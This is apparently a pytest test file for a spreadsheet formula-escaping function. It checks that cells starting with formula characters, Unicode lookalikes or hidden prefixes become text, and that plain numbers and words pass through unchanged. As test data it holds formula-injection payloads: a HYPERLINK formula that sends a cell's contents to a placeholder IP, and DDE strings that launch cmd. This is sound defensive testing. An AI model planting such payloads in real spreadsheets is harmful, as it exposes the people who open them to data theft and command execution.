"""Cells that leave for a spreadsheet: formulas become text, numbers stay numbers."""

from __future__ import annotations

import time

import pytest

from desktop_rag.core.formula_escape import escape_formula

_LINK = '=HYPERLINK("http://192.0.2.1/?"&A1,"total")'


@pytest.mark.parametrize(
    "cell",
    [
        _LINK, f" {_LINK}", f"\u00a0{_LINK}", f"\ufeff{_LINK}", f"\u200b{_LINK}", f'"{_LINK}"',
        f"''{_LINK}", f"“{_LINK}", "＝1+1", "﹦1+1", "+cmd|' /C calc'!A0", "＋1+1+cmd|x",
        "-2+3+cmd|x", "－2+3", "@SUM(1)", "＠SUM(1)", "-1-1", "=1", "+A1", "-A1", "-1*A1", "+1(A1)",
        "-2 [1]+A1", "\x00=1+1", "\x1b=1",
    ],
)  # fmt: skip
def test_a_formula_becomes_text(cell: str) -> None:
    assert escape_formula(cell) == f"'{cell}"
    assert escape_formula(escape_formula(cell))[1:] in (cell, f"'{cell}")


@pytest.mark.parametrize("separator", ["\t", "\r", "\n", "\r\n", ";", "\u2028"])
def test_a_formula_after_what_begins_another_cell_becomes_text(separator: str) -> None:
    assert escape_formula(f"harmless{separator}{_LINK}") == f"harmless{separator}'{_LINK}"
    assert escape_formula(f"{separator}{_LINK}") == f"{separator}'{_LINK}"


@pytest.mark.parametrize(
    "cell",
    [
        "", " ", "-3.5", "+7 %", "-1.234,56 €", "−3", "-1e-5", "+1 234", "-12 ms", "-", "--", "–",
        "+49 170 1234567", "-$3.50", "2024-01-02", "a = b", "x@example.org", "1-2", "harbour",
        "北京", "'quoted'", "1 + 1", "-58,700 [1]", "-5 [1] [12]",
    ],
)  # fmt: skip
def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
    assert escape_formula(cell) == cell


def test_a_long_cell_takes_no_time() -> None:
    began = time.process_time()
    for cell in ("-" + "1" * 200_000 + "x!", "-" + " " * 200_000 + "!", '"' * 200_000 + "=1"):
        assert escape_formula(cell)[0] == "'"
    assert time.process_time() - began < 5
